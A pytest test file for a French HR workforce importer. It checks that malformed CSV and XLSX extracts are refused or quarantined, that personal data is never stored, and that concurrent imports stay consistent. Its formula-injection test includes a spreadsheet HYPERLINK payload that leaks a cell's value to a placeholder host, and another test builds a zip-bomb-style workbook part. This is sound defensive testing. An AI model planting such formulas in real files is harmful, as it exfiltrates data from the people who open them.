"""Issue 11: the real-file cases that lost rows, kept personal data or let two imports race, each as the input
that failed before and the behaviour now, on every backend (the `engine` fixture runs SQLite and PostgreSQL)."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import threading
import zipfile

import openpyxl
import pandas as pd
import pytest
from sqlalchemy.exc import IntegrityError

from workforce import db
from workforce.ingest import ExtractRejected
from workforce.ingest import xlsx as xlsx_module
from workforce.ingest import delete_extract, list_extracts
from workforce.ingest.pipeline import prepare, store
from workforce.privacy import PERSONAL_PATTERNS

from tests.ingest.helpers import HEADER, KEY, ROWS, assert_accounted, csv_bytes, run, table

NIR = "1 60 01 75 100 200 10"
EMAIL = "marie.durand@departement.example"


def _dump(engine) -> str:
    """Every stored value of every table, as one text: what must never hold personal data. Pseudonyms and
    sha256 digests are keyed hashes (hex), blanked so that a run of their digits is not taken for a number."""
    text = "\n".join(table(engine, t).to_csv() for t in db.Base.metadata.sorted_tables)
    return re.sub(r"\b[0-9a-f]{20}\b|\b[0-9a-f]{64}\b", "#", text)


def _fifty(extra_header=(), extra=lambda i: []) -> list[list[str]]:
    rows = []
    for i in range(50):
        r = list(ROWS[i % len(ROWS)])
        r[0] = f"M{i:04d}"
        rows.append(r + list(extra(i)))
    return rows


def _extract_id(engine, date: str) -> int:
    frame = table(engine, db.Extract)
    return int(frame.loc[frame["extract_date"].astype(str).str[:10] == date, "id"].iloc[0])


def _moves_of(engine, date: str) -> pd.DataFrame:
    moves = table(engine, db.Movement)
    return moves[moves["extract_id"] == _extract_id(engine, date)]


def _sqlite_file_engine(tmp_path):
    eng = db.make_engine(f"sqlite:///{tmp_path / 'race.db'}")
    db.init_db(eng)
    return eng


# ------------------------------------------------------------------------------ 1. a stray quote

def test_stray_quote_refuses_the_file_naming_its_line(engine):
    rows = _fifty()
    rows[9][1] = '"DURAND'  # data row 10 = line 11 of the file: opens a field that never closes
    with pytest.raises(ExtractRejected) as err:
        run(engine, csv_bytes(rows))
    assert "ligne 11" in str(err.value) and "« Nom »" in str(err.value) and "guillemet" in str(err.value)
    assert db.table_counts(engine)["agent_snapshots"] == 0 and db.table_counts(engine)["extracts"] == 0


def test_stray_quote_closed_further_down_is_refused_too(engine):
    rows = _fifty()
    rows[9][1] = '"DURAND'
    rows[30][1] = 'PETIT"'  # a second stray quote closes the field 20 lines later
    with pytest.raises(ExtractRejected, match="ligne 11"):
        run(engine, csv_bytes(rows))


def test_a_quoted_line_break_is_still_one_legitimate_record(engine):
    rows = _fifty()
    rows[9][HEADER.index("Libellé emploi")] = '"Agent d\'entretien polyvalent\r\ndes collèges"'
    result = run(engine, csv_bytes(rows))
    assert result.rows_read == 50 and result.report["lignes"]["champs_multilignes"] == 1
    assert result.report["lignes"]["lignes_physiques"] == 52
    assert_accounted(engine, result)


# ------------------------------------------------------------------------------ 2. allow-list storage

def test_only_canonical_columns_are_stored_and_nothing_personal(engine, tmp_path):
    header = HEADER + ["Matricule", "Identifiant agent", "Nom usuel", "N° SS", "Observations", "NOMUSAGE",
                       "Patronyme", "Last name", "NUM_SS", "Lieu de naissance", "Nationalité", "RQTH", "Handicap",
                       "Commentaire", "Code poste", "Colonne inconnue"]
    rows = _fifty(extra=lambda i: [f"M{i:04d}", f"ID{i}", "DUPONT", NIR, "Dépression sévère, arrêt", "DUPONT",
                                   "DURAND", "Smith", NIR, "Lyon", "française", "oui", "oui", EMAIL,
                                   EMAIL if i == 3 else f"P{i}", "secret-maison"])
    rows[7][HEADER.index("Direction")] = EMAIL  # personal data in a canonical column: the row is quarantined
    mapping = tmp_path / "m.yaml"
    mapping.write_text("keep: [Code poste]\n", encoding="utf-8")
    result = run(engine, csv_bytes(rows, header), mapping=mapping)
    assert_accounted(engine, result)
    assert result.rows_quarantined >= 1
    dump = _dump(engine)
    for secret in ("DUPONT", "Smith", "Dépression", "française", "secret-maison", "Lyon", "ID1"):
        assert secret not in dump
    for pattern in PERSONAL_PATTERNS.values():
        assert not re.search(pattern, dump), pattern
    cols = result.report["colonnes"]
    assert {"Nom usuel", "N° SS", "Observations", "NOMUSAGE", "Patronyme", "Last name", "NUM_SS",
            "Lieu de naissance", "Nationalité", "RQTH", "Handicap", "Commentaire"} <= set(cols["personnelles_supprimees"])
    assert {"Matricule (2)", "Identifiant agent", "Colonne inconnue"} <= set(cols["ignorees"])
    assert cols["annexes"] == ["Code poste"]
    assert any("Code poste" in w and "e-mail" in w for w in result.report["avertissements"])
    extras = table(engine, db.AgentSnapshot)["extra"].map(lambda e: e if isinstance(e, dict) else json.loads(e))
    assert {"P0", "P1"} <= {e.get("Code poste") for e in extras}
    raw = table(engine, db.QuarantinedRow)["raw"].map(lambda r: r if isinstance(r, dict) else json.loads(r))
    assert all(set(r) <= set(HEADER) for r in raw)  # the quarantine keeps canonical fields only


def test_a_mapping_cannot_keep_a_personal_column(engine, tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text("keep: [Observations]\n", encoding="utf-8")
    with pytest.raises(ExtractRejected, match="jamais enregistrées"):
        run(engine, csv_bytes(), mapping=mapping)


# ------------------------------------------------------------------------------ 4. formula injection

@pytest.mark.parametrize("label", ['=HYPERLINK("http://x/?leak="&B2,"DRH")', "+1+1", "-2+3", "@SUM(A1)"])
def test_a_label_read_as_a_formula_is_quarantined(engine, label):
    rows = [list(r) for r in ROWS]
    rows[1][HEADER.index("Direction")] = label
    result = run(engine, csv_bytes(rows))
    assert result.rows_quarantined == 1 and result.rows_stored == len(ROWS) - 1
    assert "formule" in result.quarantine["reasons"].iloc[0]
    assert label not in set(table(engine, db.AgentSnapshot)["direction"])


# ------------------------------------------------------------------------------ 5. concurrent imports

def _race(engine, prepared, sources):
    """Store prepared extracts from threads released at the same instant."""
    barrier = threading.Barrier(len(prepared))
    out: list = [None] * len(prepared)

    def go(i):
        barrier.wait()
        try:
            out[i] = store(engine, prepared[i], sha=f"{i}-{sources[i]}", source=sources[i])
        except Exception as err:  # noqa: BLE001 - the test looks at what each thread got
            out[i] = err

    threads = [threading.Thread(target=go, args=(i,)) for i in range(len(prepared))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return out


def _month(date: str, rows=ROWS):
    return prepare(csv_bytes(rows), f"extraction_{date}.csv", key=KEY, metiers=_metiers())


def _metiers():
    from workforce.referential import load_builtin

    return load_builtin().metiers[["code", "label"]].astype(str)


def test_concurrent_months_compute_movements_from_the_true_predecessor(engine, tmp_path):
    eng = engine if engine.dialect.name == "postgresql" else _sqlite_file_engine(tmp_path)
    run(eng, csv_bytes(ROWS), "extraction_2024-12-31.csv")
    jan, feb = _month("2025-01-31"), _month("2025-02-28", ROWS[:4])
    results = _race(eng, [jan, feb], ["jan", "feb"])
    assert not any(isinstance(r, Exception) for r in results), results
    feb_moves = _moves_of(eng, "2025-02-28")
    # from January (5 agents) to February (4): one departure, no phantom arrival
    assert (feb_moves["kind"] == "arrival").sum() == 0 and (feb_moves["kind"] == "departure").sum() == 1
    assert len(_moves_of(eng, "2025-01-31")) == 0


def test_the_same_month_twice_at_once_lands_once(engine, tmp_path):
    eng = engine if engine.dialect.name == "postgresql" else _sqlite_file_engine(tmp_path)
    a, b = _month("2025-01-31"), _month("2025-01-31", ROWS[:4])
    results = _race(eng, [a, b], ["a", "b"])
    errors = [r for r in results if isinstance(r, Exception)]
    assert len(errors) == 1 and isinstance(errors[0], ExtractRejected) and "déjà importée" in str(errors[0])
    assert db.table_counts(eng)["extracts"] == 1


def test_the_same_file_twice_at_once_says_already_imported(engine, tmp_path):
    eng = engine if engine.dialect.name == "postgresql" else _sqlite_file_engine(tmp_path)
    a = _month("2025-01-31")
    barrier = threading.Barrier(2)
    out = []

    def go():
        barrier.wait()
        out.append(store(eng, a, sha="same-bytes", source="x"))

    threads = [threading.Thread(target=go) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(r.already_imported for r in out) == [False, True]
    assert db.table_counts(eng)["extracts"] == 1


def test_extract_date_is_unique_per_kind(engine):
    with pytest.raises(IntegrityError):
        with db.session_scope(engine) as session:
            for sha in ("a", "b"):
                session.add(db.Extract(extract_date=dt.date(2025, 1, 31), source=sha, kind="import", sha256=sha))
                session.flush()


# ------------------------------------------------------------------------------ 6. lengths on every backend

def test_overlong_values_quarantine_the_row_on_every_backend(engine):
    rows = [list(r) for r in ROWS]
    rows[0][HEADER.index("Filière")] = "F" * 50
    rows[1][HEADER.index("Direction")] = "D" * 200_000
    result = run(engine, csv_bytes(rows))
    assert (result.rows_stored, result.rows_quarantined) == (3, 2)
    assert all("trop longue" in r for r in result.quarantine["reasons"])
    raw = table(engine, db.QuarantinedRow)["raw"].map(lambda r: r if isinstance(r, dict) else json.loads(r))
    assert max(len(v) for r in raw for v in r.values()) <= 201  # cells cut, not a file in a cell


# ------------------------------------------------------------------------------ 7. matricules

def test_invisible_and_lookalike_characters_do_not_make_new_agents(engine):
    run(engine, csv_bytes(ROWS), "extraction_2025-01-31.csv")
    rows = [list(r) for r in ROWS]
    rows[0][0] = "А001"  # Cyrillic A
    rows[1][0] = "A\u200b002"  # zero-width space
    rows[2][0] = "Ａ００３"  # full-width
    result = run(engine, csv_bytes(rows, encoding="utf-8"), "extraction_2025-02-28.csv")
    assert result.report["mouvements"] == {"arrival": 0, "departure": 0, "internal": 0}


def test_leading_zeros_are_warned_then_stripped_by_the_mapping_option(engine, tmp_path):
    first = [list(r) for r in ROWS]
    for i, r in enumerate(first):
        r[0] = f"0{100000 + i}"
    second = [list(r) for r in first]
    for r in second:
        r[0] = r[0].lstrip("0")
    run(engine, csv_bytes(first), "extraction_2025-01-31.csv")
    result = run(engine, csv_bytes(second), "extraction_2025-02-28.csv")
    assert result.report["mouvements"]["arrival"] == 5
    assert any("zéros en tête" in w for w in result.report["avertissements"])
    mapping = tmp_path / "m.yaml"
    mapping.write_text("options: {matricule_zeros: strip}\n", encoding="utf-8")
    run(engine, csv_bytes(first, newline="\n"), "extraction_2025-03-31.csv", mapping=mapping)
    again = run(engine, csv_bytes(second, newline="\n"), "extraction_2025-04-30.csv", mapping=mapping)
    assert again.report["mouvements"] == {"arrival": 0, "departure": 0, "internal": 0}


def test_near_duplicate_matricules_are_warned(engine):
    rows = [list(r) for r in ROWS]
    rows[1][0] = "a001"  # A001 in another case
    result = run(engine, csv_bytes(rows))
    assert any("plusieurs façons" in w for w in result.report["avertissements"])


# ------------------------------------------------------------------------------ 8. XLSX

def _book(sheets: dict[str, list[list]], hidden=()) -> bytes:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for r in rows:
            ws.append(r)
        if title in hidden:
            ws.sheet_state = "hidden"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_several_sheets_are_refused_unless_one_is_named(engine):
    data = _book({"Titulaires": [HEADER, *ROWS[:3]], "Contractuels": [HEADER, *ROWS[3:]]})
    with pytest.raises(ExtractRejected, match="--sheet"):
        run(engine, data, "extraction_2025-06-30.xlsx")
    assert run(engine, data, "extraction_2025-06-30.xlsx", sheet="Contractuels").rows_read == 2


def test_a_hidden_sheet_is_skipped(engine):
    data = _book({"Brouillon": [HEADER, *ROWS[:1]], "Agents": [HEADER, *ROWS]}, hidden=("Brouillon",))
    result = run(engine, data, "extraction_2025-06-30.xlsx")
    assert result.rows_read == len(ROWS) and any("masquée" in w for w in result.report["avertissements"])


def test_a_workbook_that_unzips_too_far_is_refused_before_parsing(engine, monkeypatch):
    data = _book({"Agents": [HEADER, *ROWS]})
    monkeypatch.setattr(xlsx_module, "MAX_XLSX_XML_BYTES", 5_000)
    with pytest.raises(ExtractRejected, match="décompressé"):
        run(engine, data, "extraction_2025-06-30.xlsx")


def test_a_zip_bomb_part_is_refused_by_its_ratio(engine):
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_book({"Agents": [HEADER, *ROWS]}))) as src, \
            zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/media/padding.xml", b"<a/>" * 2_000_000)  # 8 MB of one repeated tag
    with pytest.raises(ExtractRejected, match="fois"):
        run(engine, buf.getvalue(), "extraction_2025-06-30.xlsx")


# ------------------------------------------------------------------------------ 10. a mistyped date

def test_a_future_date_is_refused_unless_forced(engine):
    with pytest.raises(ExtractRejected, match="futur"):
        run(engine, csv_bytes(), "x.csv", date="2052-01-31")
    assert run(engine, csv_bytes(), "x.csv", date="2052-01-31", force=True).extract_date == dt.date(2052, 1, 31)


def test_a_mistyped_date_is_corrected_by_delete_and_reimport(engine):
    data = csv_bytes()
    run(engine, data, "x.csv", date="2025-01-31")
    run(engine, csv_bytes(ROWS[:4]), "y.csv", date="2025-03-31")
    run(engine, csv_bytes(ROWS[:3]), "w.csv", date="2024-12-31")
    with pytest.raises(ExtractRejected, match="déjà importé, à la date du 2025-01-31"):
        run(engine, data, "x.csv", date="2025-02-28")
    detail = delete_extract(engine, "2025-01-31")
    assert detail["movements_recomputed_for"] == "2025-03-31"
    # March now follows December (3 agents -> 4): one arrival, no departure
    assert _moves_of(engine, "2025-03-31")["kind"].value_counts().to_dict() == {"arrival": 1}
    assert run(engine, data, "x.csv", date="2025-02-28").extract_date == dt.date(2025, 2, 28)
    assert list(list_extracts(engine)["extract_date"].astype(str).str[:10]) == [
        "2024-12-31", "2025-02-28", "2025-03-31"]
    audit = table(engine, db.AuditLog)
    assert "extract_delete" in set(audit["action"])


def test_the_same_content_at_another_date_is_said(engine):
    run(engine, csv_bytes(), "x.csv", date="2025-01-31")
    result = run(engine, csv_bytes(newline="\n"), "x.csv", date="2025-02-28")  # other bytes, same content
    assert any("contenu identique à l'extraction du 2025-01-31" in w for w in result.report["avertissements"])


# ------------------------------------------------------------------------------ 11. quotité

@pytest.mark.parametrize("value, stored", [("1,5", None), ("80", 0.8), ("0,8", 0.8), ("80 %", 0.8), ("1", 1.0),
                                           ("50", 0.5), ("2", None)])
def test_quotite_is_a_share_a_percentage_or_refused(engine, value, stored):
    rows = [list(r) for r in ROWS[:1]]
    rows[0][HEADER.index("Quotité de travail")] = value
    result = run(engine, csv_bytes(rows))
    if stored is None:
        assert result.rows_quarantined == 1 and "quotité" in result.quarantine["reasons"].iloc[0]
    else:
        assert table(engine, db.AgentSnapshot)["quotite"].iloc[0] == pytest.approx(stored)



# ------------------------------------------------------------------------------ found by attacking the importer

@pytest.mark.parametrize("value", ["1\u202f60\u202f01\u202f75\u202f100\u202f200\u202f10",  # narrow no-break spaces
                                   "1\u00a060\u00a001\u00a075\u00a0100\u00a0200\u00a010",
                                   "06\u202f12\u202f34\u202f56\u202f78", "+33 (0)6 12 34 56 78",
                                   "ｊｅａｎ＠ｃｄ．ｆｒ", "１ ６０ ０１ ７５ １００ ２００ １０", "jean@cd"])
def test_personal_data_however_written_is_never_stored(engine, tmp_path, value):
    rows = [list(r) for r in ROWS]
    rows[1][HEADER.index("Direction")] = value
    header = HEADER + ["Code poste"]
    rows = [r + [value if i == 2 else f"P{i}"] for i, r in enumerate(rows)]
    mapping = tmp_path / "m.yaml"
    mapping.write_text("keep: [Code poste]\n", encoding="utf-8")
    result = run(engine, csv_bytes(rows, header, encoding="utf-8"), mapping=mapping)
    reason = result.quarantine["reasons"].iloc[0]
    assert result.rows_quarantined >= 1 and ("donnée personnelle" in reason or "formule" in reason)
    assert value not in _dump(engine)
    assert any("Code poste" in w for w in result.report["avertissements"])


def test_a_mapping_cannot_read_a_personal_column_as_a_referential_one(engine, tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text("columns: {direction: Nom, service: Prénom}\n", encoding="utf-8")
    with pytest.raises(ExtractRejected, match="jamais enregistrées"):
        run(engine, csv_bytes(), mapping=mapping)


def test_a_mapping_cannot_keep_a_second_identifier(engine, tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text('keep: ["Matricule 2"]\n', encoding="utf-8")
    with pytest.raises(ExtractRejected, match="jamais enregistrées"):
        run(engine, csv_bytes(), mapping=mapping)


def test_personal_data_in_the_title_line_or_file_name_is_not_stored(engine):
    result = run(engine, csv_bytes(title="Extraction au 30/06/2025 par jean.dupont@cd.fr"),
                 "extraction_2025-06-30_0612345678.csv")
    assert result.extract_date == dt.date(2025, 6, 30)
    dump = _dump(engine)
    assert "jean.dupont@cd.fr" not in dump and "0612345678" not in dump


def test_a_quote_in_the_header_is_named(engine):
    header = list(HEADER)
    header[1] = '"Nom'
    with pytest.raises(ExtractRejected, match="guillemet"):
        run(engine, csv_bytes(header=header))


def test_a_truncated_utf16_file_is_refused_with_a_message(engine):
    data = b"\xff\xfe" + ";".join(HEADER).encode("utf-16-le") + b"\r\x00\n\x00\x41"
    with pytest.raises(ExtractRejected, match="UTF-16"):
        run(engine, data)


def test_a_stray_quote_at_the_start_of_a_record_that_swallows_the_next_is_refused(engine):
    """Found by the property test: the quote opening row 3 closes where row 4 starts, merging two records."""
    rows = _fifty()[:4]
    rows[2][0] = '"' + rows[2][0]
    rows[3][0] = '"' + rows[3][0]
    with pytest.raises(ExtractRejected, match="ligne 4"):
        run(engine, csv_bytes(rows))
